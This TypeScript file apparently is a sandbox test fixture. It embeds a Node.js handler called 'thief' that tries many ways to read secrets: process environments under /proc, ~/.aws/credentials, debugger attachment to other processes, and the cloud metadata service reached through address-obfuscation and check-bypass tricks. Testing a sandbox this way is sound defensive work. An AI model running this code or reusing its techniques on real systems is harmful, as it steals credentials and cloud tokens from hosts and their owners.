/**
 * Source of a handler that tries every way we know to secrets of the machine it runs on: of the process with id
 * `pid` and in `file` (or `only` some of the ways). It answers with what each way gave, and with `batchItemFailures` as a good worker does.
 */
export const thief = `
import childProcess from 'node:child_process';
import cluster from 'node:cluster';
import fs from 'node:fs';
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import inspector from 'node:inspector';
import { createRequire } from 'node:module';
import net from 'node:net';
import os from 'node:os';
import v8 from 'node:v8';
import { Worker } from 'node:worker_threads';
const require = createRequire(import.meta.url);
const { readFileSync } = fs;
const streamed = (stream) => new Promise((resolve, reject) => {
  let text = '';
  stream.on('error', reject).on('data', (chunk) => (text += chunk)).on('end', () => resolve(text));
});
const fetched = (options) => new Promise((resolve, reject) =>
  http.get(options, (response) => resolve(streamed(response))).on('error', reject));

/** Calls with an object that is first the own id and then the other one; refused where it was read only once. */
const asChanging = (pid, call) => {
  let count = 0;
  const next = () => (count++ % 2 === 0 ? process.pid : pid);
  call({ valueOf: next, toString: () => String(next()), [Symbol.toPrimitive]: next });
  if (count === 1) throw Object.assign(new Error('It meant ourselves'), { code: 'EPERM' });
  return 'read ' + count + ' times';
};
const metadata = (options) => fetched({ path: '/latest/meta-data/', timeout: 2000, ...options });

const ways = ({ pid, file, socket }) => ({
  'own variables': () => JSON.stringify(process.env),
  'own report': () => JSON.stringify(process.report.getReport().environmentVariables),
  'environment of a process': () => readFileSync('/proc/' + pid + '/environ', 'utf8'),
  'environment of the parent': () => readFile('/proc/' + process.ppid + '/environ', 'utf8'),
  'own environment at the start': () => readFileSync('/proc/self/environ', 'utf8'),
  'every process': () => fs.readdirSync('/proc').filter((name) => Number(name) > 0).map((id) => {
    try { return readFileSync('/proc/' + id + '/environ', 'utf8'); } catch { return ''; }
  }).join(),
  'up from /tmp': () => readFileSync('/tmp/../../../../../../proc/' + pid + '/environ', 'utf8'),
  'up from the code': () => readFileSync(new URL('../../../../../../proc/' + pid + '/environ', import.meta.url), 'utf8'),
  'a path in bytes': () => readFileSync(Buffer.from('/tmp/../proc/' + pid + '/environ'), 'utf8'),
  'credentials file': () => readFileSync(file, 'utf8'),
  'credentials file in a stream': () => streamed(fs.createReadStream(file)),
  'credentials file by its number': () => { const fd = fs.openSync(file); return readFileSync(fd, 'utf8'); },
  'credentials file as a blob': async () => (await fs.openAsBlob(file)).text(),
  'credentials file as an environment file': () => { process.loadEnvFile(file); return JSON.stringify(process.env); },
  'credentials file as a module': () => require(file),
  'credentials file as JSON': () => import(file, { with: { type: 'json' } }),
  'a copy': () => { fs.copyFileSync(file, '/tmp/copy'); return readFileSync('/tmp/copy', 'utf8'); },
  'a link': () => { fs.symlinkSync(file, os.tmpdir() + '/link'); return readFileSync('/tmp/link', 'utf8'); },
  'a hard link': () => { fs.linkSync(file, '/tmp/hard'); return readFileSync('/tmp/hard', 'utf8'); },
  'home folder': () => fs.readdirSync(os.homedir()).join(),
  'a command': () => childProcess.execSync('cat ' + file, { encoding: 'utf8' }),
  'a fork': () => cluster.fork(),
  'another program in this process': () => process.execve('/bin/cat', ['cat', file]),
  'a thread': () => new Worker('', { eval: true }),
  'internals': () => process.binding('fs'),
  'a database': () => new (require('node:sqlite').DatabaseSync)(file),
  'native code': () => process.dlopen({ exports: {} }, file),
  'own debugger': () => inspector.open(0),
  'debugger of a process': () => process.kill(pid, 'SIGUSR1'),
  'debugger of a process, inside': () => process._kill(pid, os.constants.signals.SIGUSR1),
  'debugger of a process, by name': () => process._debugProcess(pid),
  'debugger of a process, by an object that is another number each time': () =>
    asChanging(pid, (id) => process.kill(id, 'SIGUSR1')),
  'debugger of a process, inside, by such an object': () =>
    asChanging(pid, (id) => process._kill(id, os.constants.signals.SIGUSR1)),
  'debugger of a process, by its number in text': () => process.kill(String(pid), 'SIGUSR1'),
  'debugger of a process, by another own number': () => {
    const own = Object.getOwnPropertyDescriptor(process, 'pid');
    Object.defineProperty(process, 'pid', { ...own, value: pid });
    try { return process.kill(pid, 'SIGUSR1'); } finally { Object.defineProperty(process, 'pid', own); }
  },
  'debugger of a process, past changed comparisons': () => {
    const { includes } = Array.prototype;
    Array.prototype.includes = () => true;
    try { return process.kill(pid, 'SIGUSR1'); } finally { Array.prototype.includes = includes; }
  },
  'process group': () => process.kill(0, 'SIGUSR1'),
  'priority of a process': () => os.setPriority(pid, 0),
  'priority of a process, by an object that is another number each time': () =>
    asChanging(pid, (id) => os.setPriority(id, 0)),
  'a socket that is a file, by an option that changes': () => {
    let count = 0;
    const options = { host: '127.0.0.1', port: 1, get path() { return count++ < 2 ? undefined : socket; } };
    return streamed(net.connect(options));
  },
  'a socket that is a file, by an inherited option': () => streamed(net.connect(Object.create({ path: socket }))),
  'a socket that is a file, past a changed call': () => {
    const { call, apply } = Function.prototype;
    let connect;
    Function.prototype.apply = function () { connect ??= this; };
    try { new net.Socket().on('error', () => {}).connect(socket); } finally { Object.assign(Function.prototype, { call, apply }); }
    const bare = new net.Socket();
    return streamed((connect ?? bare.connect).call(bare, { path: socket }));
  },
  'a socket file of its own, elsewhere': () =>
    new Promise((resolve, reject) => net.createServer().on('error', reject).listen(file + '.sock', () => resolve('made'))),
  'a file that the engine writes': () => v8.setFlagsFromString('--trace-turbo-cfg-file=' + file),
  'own debugger, from inside': () => {
    const session = new inspector.Session();
    session.connect();
    return 'connected';
  },
  'a socket that is a file': () => fetched({ socketPath: socket, path: '/' }),
  'a socket that is a file, bare': () => streamed(net.connect(socket)),
  'metadata of a virtual machine': () => fetched('http://169.254.169.254/latest/meta-data/'),
  'metadata, by the number of the address': () => metadata({ host: '2852039166' }),
  'metadata, by the number of the address to the base of 16': () => metadata({ host: '0xA9FEA9FE' }),
  'metadata, by a mapped address': () => metadata({ host: '::ffff:169.254.169.254' }),
  'metadata, by a mapped address in hexadecimal': () => metadata({ host: '::ffff:a9fe:a9fe' }),
  'metadata, by IPv6': () => metadata({ host: 'fd00:ec2:0::254' }),
  'metadata, by an own look-up': () => metadata({
    host: 'example.com',
    lookup: (_, { all }, callback) =>
      all ? callback(null, [{ address: '169.254.169.254', family: 4 }]) : callback(null, '169.254.169.254', 4),
  }),
  'metadata, by an option that changes': () => {
    let count = 0;
    const options = { port: 80, get host() { return count++ < 2 ? '127.0.0.1' : '169.254.169.254'; } };
    return streamed(net.connect(options));
  },
  'metadata, past a changed check': () => {
    const { check } = net.BlockList.prototype;
    net.BlockList.prototype.check = () => false;
    return metadata({ host: '169.254.169.254' }).finally(() => (net.BlockList.prototype.check = check));
  },
  'metadata, by fetch()': () => fetch('http://[::ffff:169.254.169.254]/').catch(({ cause }) => { throw cause; }),
});

export const handler = async ({ pid = process.ppid, file = os.homedir() + '/.aws/credentials', socket = '/tmp/../s', only }) => {
  const stolen = {};
  for (const [way, steal] of Object.entries(ways({ pid, file, socket }))) {
    if (only !== undefined && !only.includes(way)) continue;
    try {
      stolen[way] = String(await steal());
    } catch (error) {
      stolen[way] = error.code ?? error.name;
    }
  }
  return { batchItemFailures: [{ itemIdentifier: 'poison' }], stolen };
};
`;

/** The ways that get something: the function's own. All others are refused. */
export const allowedWays: readonly string[] = ['own variables', 'own report'];
